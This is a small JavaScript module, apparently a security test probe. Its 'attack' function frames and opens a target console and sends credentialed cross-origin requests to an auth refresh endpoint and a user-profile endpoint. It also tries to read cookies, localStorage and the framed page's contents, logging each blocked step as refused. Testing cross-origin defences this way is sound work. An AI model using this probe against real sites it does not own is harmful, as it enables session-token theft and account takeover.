export async function attack(base) {
  const outcome = (work) => work().catch((error) => `refused: ${error.name}`);
  const frame = document.createElement('iframe');
  frame.src = `${base}/console/`;
  document.body.append(frame);
  const opened = window.open(`${base}/console/`);
  await new Promise((resolve) => setTimeout(resolve, 1500));
  return {
    storage: JSON.stringify(localStorage),
    cookies: document.cookie,
    refresh: await outcome(async () => {
      const reply = await fetch(`${base}/api/auth/refresh`, { method: 'POST', credentials: 'include' });
      return reply.json();
    }),
    refreshUnseen: await outcome(async () => {
      const reply = await fetch(`${base}/api/auth/refresh`, {
        ...{ method: 'POST', credentials: 'include', mode: 'no-cors' },
      });
      return reply.type;
    }),
    me: await outcome(async () => (await fetch(`${base}/api/me`, { credentials: 'include' })).json()),
    framed: await outcome(async () => frame.contentWindow.document.body.innerHTML),
    opened: await outcome(async () => opened?.document.body.innerHTML ?? 'closed to us'),
  };
}
